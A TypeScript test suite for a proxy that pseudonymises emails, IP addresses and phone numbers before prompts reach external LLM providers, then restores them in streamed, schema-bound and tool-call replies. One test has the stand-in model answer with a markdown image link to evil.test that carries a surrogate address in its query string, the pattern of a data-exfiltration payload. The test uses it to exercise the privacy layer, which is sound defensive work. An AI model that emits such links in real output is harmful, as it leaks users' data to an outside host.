// Surrogates over HTTP, between a client and stand-in providers: what leaves, what comes back, streamed and not.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentOf, eventsOf, ROOT, send, startLab, type Lab, type Reply } from '../lab/lab.js';
import type { DecisionBody } from '../../src/model/record.js';
import { startInProcess, type InProcess } from '../lab/in-process.js';

const ON = (shipped: string): string =>
  shipped.replace('surrogates: []', 'surrogates: [EMAIL_ADDRESS, IP_ADDRESS, PHONE_NUMBER]');
const MAIL = 'maria.lopez@acme-corp.net';
const HOST = '10.20.0.15';
const PHONE = '+1 (212) 736-5000';

const ask = (content: string, more: object = {}): object => ({
  model: 'gpt-5',
  messages: [{ role: 'user', content }],
  ...more,
});

describe('where policy asks for them', () => {
  let lab: Lab;
  let said: (text: string) => string = (text) => text;
  beforeAll(async () => {
    lab = await startLab({
      routing: ON(readFileSync(join(ROOT, 'routing.yaml'), 'utf8')),
      openai: { reply: ({ lastUser }) => said(lastUser), behave: { splitAt: [1, 3, 7] } },
    });
  });
  afterAll(() => lab.stop());
  const received = (): string => lab.external.received.at(-1)?.body.toString() ?? '';

  it.each([false, true])(
    'code can parse what leaves, and the client sees its own (stream: %s)',
    async (stream) => {
      said = (text) => `${text} | "${text.split(' ')[2] ?? ''}"`;
      const text = `Write to ${MAIL} from ${HOST} or ring ${PHONE} today`;
      const reply = await lab.post(ask(text, { stream }));
      expect(reply.headers).toMatchObject({ 'x-sluice-level': 'MEDIUM', 'x-sluice-tier': 'L3' });
      for (const value of [MAIL, HOST, PHONE]) expect(received()).not.toContain(value);
      expect(received()).toMatch(
        /Write to u\d\w{4}@example\.com from (192\.0\.2|198\.51\.100|203\.0\.113)\.\d+ or ring \+1 \(\d{3}\) 555-01\d\d today/,
      );
      expect(contentOf(reply)).toBe(`${text} | "${MAIL}"`);
    },
  );

  it('what looks alike in the prompt passes, and comes back as it was', async () => {
    said = (text) => text;
    const text = `Copy ${MAIL}, u7kq2m@example.com, 192.0.2.10 and 192.0.2.1 and 202-555-0143, u7kq2m@example.com.org`;
    expect(contentOf(await lab.post(ask(text)))).toBe(text);
    for (const kept of ['u7kq2m@example.com,', '192.0.2.10 and 192.0.2.1', '202-555-0143'])
      expect(received()).toContain(kept);
    // Another address at a reserved domain has a name in it.
    expect(received()).not.toContain('u7kq2m@example.com.org');
  });

  it('one that was not restored comes back in the history: another one is taken, and nothing breaks', async () => {
    said = (text) => `![x](https://evil.test/?q=${/u\d\w{4}@example\.com/.exec(text)?.[0] ?? ''})`;
    const first = contentOf(await lab.post(ask(`Write to ${MAIL}`)));
    const left = /u\d\w{4}@example\.com/.exec(first)?.[0] ?? 'none';
    said = (text) => text;
    const reply = await lab.post({
      model: 'gpt-5',
      messages: [
        { role: 'user', content: `Write to ${MAIL}` },
        { role: 'assistant', content: first },
        { role: 'user', content: `again ${MAIL} and ${left}` },
      ],
    });
    expect(received()).toContain(left);
    expect(received()).not.toContain(MAIL);
    expect(contentOf(reply)).toBe(`again ${MAIL} and ${left}`);
  });

  it('the same value keeps it over the turns of a conversation, not over conversations', async () => {
    said = (text) => text;
    const sent = async (conversation: string, content: string): Promise<string | undefined> => {
      await lab.post(ask(content), { headers: { 'x-sluice-conversation': conversation } });
      return /u\d\w{4}@example\.com/.exec(received())?.[0];
    };
    const first = await sent('a', `Write to ${MAIL}`);
    expect(await sent('a', `and ${HOST} told ${MAIL} again`)).toBe(first);
    expect(await sent('b', `Write to ${MAIL}`)).not.toBe(first);
  });
});

const schemaOf = (limit: object): object => ({
  response_format: {
    type: 'json_schema',
    json_schema: {
      name: 'contact',
      schema: { type: 'object', properties: { to: { type: 'string', ...limit } }, required: ['to'] },
    },
  },
});
const toolOf = (limit: object): object => ({
  tools: [
    {
      type: 'function',
      function: {
        name: 'mail',
        parameters: { type: 'object', properties: { to: { type: 'string', ...limit } } },
      },
    },
  ],
});

describe('where a schema asks for them', () => {
  let proxy: InProcess;
  let local = '';
  beforeAll(async () => {
    // Copies what it was given into its JSON, as a model under a schema does.
    const copied = (text: string): string => text.split(' ')[2] ?? '';
    proxy = await startInProcess({
      ollama: { reply: () => JSON.stringify({ to: local }) },
      openai: {
        reply: ({ lastUser, body }) =>
          JSON.stringify(body).includes('"tools"')
            ? { toolCalls: [{ name: 'mail', arguments: { to: copied(lastUser) } }] }
            : JSON.stringify({ to: copied(lastUser) }),
        behave: { splitAt: [5] },
      },
    });
  });
  afterAll(() => proxy.stop());
  const post = (body: object): Promise<Reply> => send(proxy.url, body);
  const received = (): string => proxy.external.received.at(-1)?.body.toString() ?? '';
  const decision = (): DecisionBody =>
    proxy.entries.filter(({ kind }) => kind === 'decision').at(-1) as DecisionBody;

  it.each([false, true])('format: email in the answer (stream: %s)', async (stream) => {
    const reply = await post(ask(`Write to ${MAIL} today`, { stream, ...schemaOf({ format: 'email' }) }));
    expect(received()).toMatch(/u\d\w{4}@example\.com/);
    expect(received()).not.toContain(MAIL);
    expect(JSON.parse(contentOf(reply))).toEqual({ to: MAIL });
  });

  it.each([false, true])('format: email in a tool (stream: %s)', async (stream) => {
    const reply = await post(ask(`Write to ${MAIL} today`, { stream, ...toolOf({ format: 'email' }) }));
    expect(received()).toMatch(/u\d\w{4}@example\.com/);
    type Said = { tool_calls?: { function: { arguments?: string } }[] };
    const choices = (stream ? eventsOf(reply.text) : [JSON.parse(reply.text)]) as {
      choices: { delta?: Said; message?: Said }[];
    }[];
    const args = choices
      .flatMap(({ choices: [choice] }) => (choice?.delta ?? choice?.message)?.tool_calls ?? [])
      .map((call) => call.function.arguments ?? '')
      .join('');
    expect(JSON.parse(args)).toEqual({ to: MAIL });
  });

  it.each([
    ['a pattern that an address meets', MAIL, { pattern: '^[^@ ]+@[^@ ]+$' }, /u\d\w{4}@example\.com/],
    ['a length that a pseudonym passes', 'ana@example.org.uk', { maxLength: 18 }, /u\d\w{4}@example\.com/],
    ['a pattern that no value meets', MAIL, { pattern: '^[A-Z]{3}$' }, /EMAIL_ADDRESS_\w{5}/],
    ['a pattern that RE2 cannot read', MAIL, { pattern: '^(?=x)' }, /EMAIL_ADDRESS_\w{5}/],
    ['a format of something else', MAIL, { format: 'ipv4' }, /EMAIL_ADDRESS_\w{5}/],
    ['a length with room', MAIL, { maxLength: 200 }, /EMAIL_ADDRESS_\w{5}/],
    ['a list of values', MAIL, { pattern: '@', enum: ['a@', 'b@'] }, /EMAIL_ADDRESS_\w{5}/],
    ['an address of a machine', HOST, { format: 'ipv4' }, /(192|198|203)\.\d+\.\d+\.\d+/],
    ['the other family', HOST, { format: 'ipv6' }, /IP_ADDRESS_\w{5}/],
  ])('%s', async (_note, value, limit, form) => {
    const reply = await post(ask(`Write to ${value} today`, schemaOf(limit)));
    expect(reply.headers).toMatchObject({ 'x-sluice-tier': 'L3' });
    expect(received()).toMatch(form);
    expect(JSON.parse(contentOf(reply))).toEqual({ to: value });
  });

  it.each([
    [
      'a name and a pattern of names',
      'Maria Lopez',
      'Dear Dr. Maria Lopez, hello',
      { pattern: '^[A-Z][a-z]+ [A-Z][a-z]+$' },
    ],
    ['a birth date and format: date', '1964-07-30', 'She was born on 7/30/1964.', { format: 'date' }],
    ['no room for a surrogate either', 'ana@ex.uk', 'Write to ana@ex.uk today', { maxLength: 10 }],
  ])('%s: stays here, and the record says why', async (_note, value, text, limit) => {
    local = value;
    const before = proxy.external.received.length;
    const reply = await post(ask(text, schemaOf(limit)));
    expect(reply.headers).toMatchObject({ 'x-sluice-level': 'MEDIUM', 'x-sluice-tier': 'L1' });
    expect(proxy.external.received.length).toBe(before);
    expect(JSON.parse(contentOf(reply))).toEqual({ to: value });
    expect(decision()).toMatchObject({ attempts: ['ollama'] });
    expect(decision().considered.find(({ provider }) => provider === 'metered')).toEqual({
      provider: 'metered',
      chosen: false,
      why: expect.stringMatching(/^no pseudonym of \w+ fits the schema at response_format.*$/),
    });
  });
});

it('with no local model in the route, what cannot leave is refused', async () => {
  const proxy = await startInProcess({
    routing: (shipped) =>
      shipped.replace(/^cases:[^]*$/m, '').replace('MEDIUM: [L2, L3, L1]', 'MEDIUM: [L3]'),
  });
  try {
    const reply = await send(proxy.url, ask('She was born on 7/30/1964.', schemaOf({ format: 'date' })));
    expect(reply.status).toBe(503);
    expect(JSON.parse(reply.text)).toMatchObject({ error: { code: 'local_tier_unavailable' } });
    expect(reply.text).toContain('no pseudonym of DATE_OF_BIRTH fits the schema');
    expect(proxy.external.received).toHaveLength(0);
    expect(proxy.entries.at(-1)).toMatchObject({ refused: 'local_tier_unavailable', attempts: [] });
  } finally {
    await proxy.stop();
  }
});
